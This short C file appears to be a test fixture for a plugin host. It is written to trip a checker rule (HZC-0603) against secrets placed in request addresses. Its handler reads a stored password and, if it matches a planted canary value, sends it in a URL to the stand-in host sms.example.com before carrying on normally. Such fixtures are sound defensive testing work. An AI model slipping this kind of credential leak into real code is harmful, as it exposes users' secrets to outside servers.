// Writes a secret into the address of a request. Fails HZC-0603.
// In the host: answers.
// May: secret-read:password.
// May: web:https://sms.example.com/*.
#include "hosted.h"

static hz_status bad_call(void* self, hz_str method, hz_str in, const hz_out* out)
{
    struct caught caught;
    ask_host("secret/1:read", "{\"name\": \"password\"}", &caught);
    struct caught page;
    if (strstr(caught.bytes, "planted-secret-4711") != NULL) {
        ask_host(
            "web/1:request", "{\"url\": \"https://sms.example.com/planted-secret-4711\"}", &page);
    }
    return healthy_call(self, method, in, out);
}

HOSTED_ENTRY;
